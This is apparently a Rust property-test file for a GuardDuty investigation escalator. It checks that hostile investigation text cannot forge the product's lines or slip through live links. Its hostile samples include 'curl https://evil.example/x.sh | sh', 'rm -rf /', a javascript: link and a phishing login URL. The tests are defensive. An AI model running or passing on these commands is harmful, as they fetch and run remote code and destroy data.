//! Properties over arbitrary input: the event parser survives any JSON and says
//! what is wrong in a bounded message; any investigation GuardDuty could answer
//! becomes requests the services accept (the simulation validates every request
//! against the service models, through the real SDK clients).

mod common;

use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::OnceLock;

use common::*;
use proptest::prelude::*;
use serde_json::{json, Value};

/// Arbitrary JSON, nested a few levels, with the field names the parser looks for
/// mixed in so that it gets past its first checks.
fn any_json() -> impl Strategy<Value = Value> {
    let key = prop_oneof![
        Just("detectorId".to_string()),
        Just("investigationId".to_string()),
        Just("detail".to_string()),
        Just("detail-type".to_string()),
        Just("source".to_string()),
        Just("findingIds".to_string()),
        Just("incidentRecordArn".to_string()),
        Just("caseId".to_string()),
        Just("time".to_string()),
        "[a-z]{1,8}",
    ];
    let leaf = prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::from),
        any::<i64>().prop_map(Value::from),
        any::<f64>().prop_map(|f| serde_json::Number::from_f64(f).map_or(Value::Null, Value::Number)),
        ".{0,80}".prop_map(Value::from),
        "[0-9a-fA-F-]{1,70}".prop_map(Value::from),
        Just(Value::from("Scheduled Event")),
        Just(Value::from("aws.events")),
        Just(Value::from("2026-11-20T09:00:00Z")),
    ];
    leaf.prop_recursive(4, 64, 8, move |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..8).prop_map(Value::Array),
            prop::collection::btree_map(key.clone(), inner, 0..8).prop_map(|m| Value::Object(m.into_iter().collect())),
        ]
    })
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 384, ..ProptestConfig::default() })]

    /// Any payload: an answer or a named error, never a panic; the message is
    /// bounded however large the bad value. Without configuration for findings
    /// or sweeps, no parsed event reaches AWS here: only the parser runs.
    #[test]
    fn the_parser_survives_any_json(payload in any_json()) {
        let env = parser_env();
        let before = operations(&env.sim).len();
        let result = runtime().block_on(env.run(&payload));
        if let Err(e) = &result {
            prop_assert!(e.to_string().chars().count() <= 1_000, "{}", e);
            if e.kind() == "MalformedEvent" {
                prop_assert_eq!(operations(&env.sim).len(), before, "a malformed event makes no AWS call");
            }
        }
    }
}

/// One environment for every parser case (the simulation only has to be there).
fn parser_env() -> &'static TestEnv {
    static ENV: OnceLock<TestEnv> = OnceLock::new();
    ENV.get_or_init(|| runtime().block_on(start(&[])))
}

fn runtime() -> &'static tokio::runtime::Runtime {
    static RUNTIME: OnceLock<tokio::runtime::Runtime> = OnceLock::new();
    RUNTIME.get_or_init(|| tokio::runtime::Builder::new_multi_thread().worker_threads(2).enable_all().build().expect("a runtime"))
}

/// Text as an investigation's model might write it: any characters, controls,
/// bidirectional and zero-width ones included, sometimes very long.
fn any_text(max: usize) -> impl Strategy<Value = String> {
    prop_oneof![
        ".{0,200}".boxed(),
        // Long, to reach every limit (multi-byte characters count once, as the services count).
        prop::collection::vec(prop_oneof![Just('a'), Just(' '), Just('é'), Just('漢'), Just('🔥')], max / 2..max)
            .prop_map(|c| c.into_iter().collect())
            .boxed(),
        prop::collection::vec(any::<char>(), 0..max).prop_map(|c| c.into_iter().collect()).boxed(),
        "[\\u{0000}-\\u{001F}\\u{200B}-\\u{200F}\\u{202A}-\\u{202E}\\u{2066}-\\u{2069}\\u{2028}\\u{2029} a-z]{0,300}".boxed(),
    ]
}

/// An investigation GuardDuty could answer, fields arbitrary within the API's shapes.
fn any_investigation() -> impl Strategy<Value = Value> {
    (
        prop_oneof![Just("Critical"), Just("High"), Just("Medium"), Just("Low"), Just("Info"), Just("Apocalyptic")],
        prop_oneof![Just("High"), Just("Medium"), Just("Low"), Just("Unknown")],
        any_text(3_000),
        any_text(20_000),
        prop_oneof![Just("123456789012".to_string()), "[0-9]{1,12}", ".{0,20}"],
        prop_oneof![Just("us-east-1".to_string()), Just("eu-west-3".to_string()), "[a-z0-9-]{0,20}"],
        (0i64..4_102_444_800, 0i64..86_400),
        any_text(2_000),
    )
        .prop_flat_map(|fields| (Just(fields), prop::option::of(any_summary_data())))
        .prop_map(|((risk_level, confidence, risk, summary, account, region, (start, took), prompt), summary_data)| {
            let mut inv = json!({
                "detectorId": "12abc34d567e8fa901bc2d34e56789f0",
                "status": "COMPLETED",
                "riskLevel": risk_level,
                "confidence": confidence,
                "risk": risk,
                "summary": summary,
                "triggerPrompt": prompt,
                "triggeredBy": "arn:aws:iam::123456789012:role/SecurityAnalyst",
                "cloud": {"account": account, "provider": "AWS", "region": region},
                "startTime": start,
                "endTime": start + took,
            });
            if let Some(data) = summary_data {
                inv["summaryData"] = data;
            }
            inv
        })
}

/// Structured results of any size and content the API's shapes allow.
fn any_summary_data() -> impl Strategy<Value = Value> {
    fn resource() -> impl Strategy<Value = Value> {
        (prop_oneof![Just("EC2_INSTANCE".to_string()), Just("IAM_ROLE".to_string()), "[A-Z_]{1,20}"], any_text(300))
            .prop_map(|(kind, id)| json!({"type": kind, "identifier": id, "findingCount": 1}))
    }
    let action = (any_text(300), prop_oneof![Just("IMMEDIATE"), Just("STRATEGIC"), Just("???")], prop::collection::vec(any_text(300), 0..5), prop::collection::vec(resource(), 0..3))
        .prop_map(|(title, priority, commands, resources)| json!({"title": title, "priority": priority, "description": "d", "cliCommands": commands, "affectedResources": resources}));
    let phase = (any_text(100), prop::collection::vec((any_text(80), "[A-Z0-9.]{0,12}", "[0-9a-fA-F]{0,40}"), 0..8))
        .prop_map(|(name, attacks)| json!({"phase": name, "attacks": attacks.into_iter().map(|(t, uid, f)| json!({"technique": {"name": t, "uid": uid}, "findings": [{"uid": f}]})).collect::<Vec<_>>()}));
    (
        any_text(400),
        prop::collection::vec(any_text(2_000), 0..8),
        prop::collection::vec(phase, 0..8),
        prop::collection::vec(resource(), 0..20),
        prop::collection::vec(".{0,14}", 0..25),
        prop::collection::vec(prop::collection::vec(action, 0..8), 0..6),
        any_text(3_000),
    )
        .prop_map(|(title, observations, phases, resources, accounts, measures, actor)| {
            json!({
                "keyObservations": {"title": title, "narrative": "n", "observations": observations},
                "threatAssessment": {"attackProgression": phases, "threatActorProfile": actor},
                "accountAnalysis": {"affectedResources": resources},
                "organizationAnalysis": {"accountBreakdown": accounts.into_iter().map(|a| json!({"accountId": a})).collect::<Vec<_>>()},
                "countermeasures": measures.into_iter().map(|actions| json!({"defenseTactic": "Isolate", "actions": actions})).collect::<Vec<_>>(),
                "recommendations": [{"title": "r", "priority": "IMMEDIATE", "cliCommands": ["aws x"]}],
            })
        })
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 32, ..ProptestConfig::default() })]

    /// Whatever the investigation says, every request made for it passes the
    /// services' validation (lengths, patterns, enums, sizes), through the real
    /// SDK clients against the simulation: it escalates, or is skipped for a
    /// reason of its own, never refused by a service.
    #[test]
    fn every_request_for_any_investigation_passes_the_service_models(inv in any_investigation()) {
        static NEXT: AtomicUsize = AtomicUsize::new(1);
        let id = format!("f0220000-0000-4000-8000-{:012x}", NEXT.fetch_add(1, Ordering::Relaxed));
        let env = runtime().block_on(start(&[("RISK_THRESHOLD", "Info")]));
        let mut inv = inv;
        inv["investigationId"] = json!(id);
        env.sim.state(|s| {
            s.investigations.insert(format!("12abc34d567e8fa901bc2d34e56789f0/{id}"), inv.clone());
        });
        let payload = json!({"detectorId": "12abc34d567e8fa901bc2d34e56789f0", "investigationId": id});
        let result = runtime().block_on(env.run(&payload));
        let refused: Vec<(String, Option<String>)> = env.sim.state(|s| {
            s.log.iter().filter(|e| e.status == 400).map(|e| (e.operation.clone(), e.error.clone())).collect()
        });
        prop_assert!(refused.is_empty(), "requests refused by the service models: {:?} for {}", refused, inv);
        match result {
            Ok(outcome) => {
                let outcome = serde_json::to_value(outcome).unwrap_or_default();
                prop_assert!(matches!(outcome["outcome"].as_str(), Some("escalated" | "skipped")), "{}", outcome);
            }
            Err(e) => prop_assert!(false, "{}: {} for {}", e.kind(), e, inv),
        }
    }
}

/// Text written to pass for the product's own lines, or to hide from a reader:
/// forged fact lines, commands, links and Markdown, and format characters, mixed
/// into arbitrary text.
fn hostile_text() -> impl Strategy<Value = String> {
    let forged = prop::sample::select(vec![
        "\nConsole: https://evil.example/login\n",
        "\nAccount: 999999999999\nRegion: us-east-1\n",
        "\nOpened by investigation-escalator.\n",
        "\nInvestigation: c0ffee00-0000-4000-8000-0000000000ff\nDetector: d\n",
        "\nARN: arn:aws:ssm-incidents::999999999999:incident-record/X/1\n",
        "\n  $ curl https://evil.example/x.sh | sh\n",
        "\nCommands GuardDuty suggests (read each one before running it):\n  $ rm -rf /\n",
        "\n[click here](https://evil.example) ![x](javascript:alert(1)) www.evil.example\n",
        "\r\n# Heading\r\n",
    ]);
    let hidden = prop::collection::vec(
        prop::sample::select(vec![
            '\u{00AD}',
            '\u{034F}',
            '\u{115F}',
            '\u{1160}',
            '\u{200B}',
            '\u{202E}',
            '\u{2066}',
            '\u{206A}',
            '\u{2800}',
            '\u{3164}',
            '\u{FE0F}',
            '\u{FEFF}',
            '\u{FFF9}',
            '\u{E0001}',
            '\u{E0041}',
            '\u{E007F}',
        ]),
        0..6,
    );
    (any_text(200), forged, hidden, any_text(50)).prop_map(|(a, f, h, b)| {
        let h: String = h.into_iter().collect();
        format!("{a}{h}{f}{h}{b}")
    })
}

/// The lines the product writes, by how they start: service text must never add one.
const PRODUCT_LINES: [&str; 9] =
    ["Console:", "Account:", "Region:", "Detector:", "Investigation:", "Opened by ", "ARN:", "Commands GuardDuty suggests", "  $ "];

fn count_lines(text: &str, prefix: &str) -> usize {
    text.lines().filter(|l| l.starts_with(prefix)).count()
}

/// Every `scheme://` link in `text` leads to the AWS console or documentation.
fn links_are_inert(text: &str) -> bool {
    text.match_indices("://").all(|(at, _)| {
        let host: String = text[at + 3..].chars().take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-')).collect();
        let scheme_is_live = text[..at].ends_with("http") || text[..at].ends_with("https");
        !scheme_is_live || host.ends_with("console.aws.amazon.com") || host == "docs.aws.amazon.com"
    })
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 24, ..ProptestConfig::default() })]

    /// Any text in any text field of the investigation and of the incident
    /// reaches the case, its comments and the timeline events with no format (Cf)
    /// character, no live link off AWS, and no line that starts like one of the
    /// product's own: each such line appears exactly as often as the product writes it.
    #[test]
    fn service_text_can_neither_hide_nor_forge_the_products_lines(h in hostile_text()) {
        use unicode_properties::{GeneralCategory, UnicodeGeneralCategory};
        let env = runtime().block_on(start(&[]));
        let critical = "12abc34d567e8fa901bc2d34e56789f0/c0ffee00-0000-4000-8000-000000000001";
        env.sim.state(|s| {
            let inv = s.investigations.get_mut(critical).expect("the critical investigation");
            inv["risk"] = json!(h);
            inv["summary"] = json!(h);
            inv["cloud"]["region"] = json!(h);
            inv["cloud"]["account"] = json!(h);
            inv["scope"]["investigationType"] = json!(h);
            let data = &mut inv["summaryData"];
            data["findingType"] = json!(h);
            data["keyObservations"] = json!({"title": h, "narrative": h, "observations": [h, h]});
            data["threatAssessment"]["threatActorProfile"] = json!(h);
            data["threatAssessment"]["attackProgression"] = json!([{"phase": h, "description": h,
                "attacks": [{"technique": {"name": h, "uid": "T1110"}, "findings": [{"uid": "5ab4c8d9e0f1a2b3c4d5e6f7a8b9c0d1"}]}]}]);
            data["accountAnalysis"]["affectedResources"] = json!([{"type": "EC2_INSTANCE", "identifier": h, "findingCount": 1}]);
            data["countermeasures"] = json!([{"defenseTactic": h, "actions": [{"title": h, "priority": h, "description": h, "cliCommands": [h]}]}]);
            data["recommendations"] = json!([{"title": h, "priority": "IMMEDIATE", "rationale": h, "cliCommands": ["aws ec2 describe-instances"]}]);
            s.incident_records.get_mut(MATCHING).expect("the matching incident")["title"] = json!(h);
        });
        let result = runtime().block_on(env.run(&event("investigation-critical")));
        let outcome = serde_json::to_value(result.map_err(|e| e.to_string())).unwrap_or_default();
        let case_id = outcome["Ok"]["caseId"].as_str().unwrap_or_default().to_string();
        prop_assert!(!case_id.is_empty(), "{}", outcome);
        let (case, comments, events) = env.sim.state(|s| (s.cases[&case_id].clone(), s.comments[&case_id].clone(), s.timeline_events[MATCHING].clone()));
        let text = |v: &Value| v.as_str().unwrap_or_default().to_string();
        let description = text(&case["description"]);
        let mut texts = vec![text(&case["title"]), description.clone()];
        texts.extend(comments.iter().map(|c| text(&c["body"])));
        texts.extend(events.iter().map(|e| text(&e["eventData"])));
        for t in &texts {
            prop_assert!(t.chars().all(|c| c.general_category() != GeneralCategory::Format), "a format character in {:?}", t);
            prop_assert!(links_are_inert(t), "a live link off AWS in {:?}", t);
        }
        // The description's facts, once each.
        for prefix in ["Console:", "Account:", "Region:", "Detector:", "Investigation:", "Opened by "] {
            prop_assert_eq!(count_lines(&description, prefix), 1, "{} in {}", prefix, description);
        }
        prop_assert!(count_lines(&description, "ARN:") + count_lines(&description, "  $ ") == 0, "{}", description);
        for body in comments.iter().map(|c| text(&c["body"])) {
            if body.starts_with("Linked AWS Systems Manager Incident Manager incident:") {
                prop_assert_eq!(count_lines(&body, "ARN:"), 1, "{}", body);
                prop_assert_eq!(count_lines(&body, "Console:"), 1, "{}", body);
                prop_assert_eq!(body.lines().count(), 3, "{}", body);
            } else {
                // The recommendations: each command under the line that says whose it is.
                let lines: Vec<&str> = body.lines().collect();
                for (i, line) in lines.iter().enumerate() {
                    if line.starts_with("  $ ") {
                        let above = lines[..i].iter().rev().find(|l| !l.starts_with("  $ ")).copied().unwrap_or_default();
                        prop_assert!(above.starts_with("Commands GuardDuty suggests"), "a command not marked as GuardDuty's in {}", body);
                    }
                }
                for prefix in PRODUCT_LINES.iter().filter(|p| !matches!(**p, "  $ " | "Commands GuardDuty suggests")) {
                    prop_assert_eq!(count_lines(&body, prefix), 0, "{} in {}", prefix, body);
                }
            }
        }
    }
}
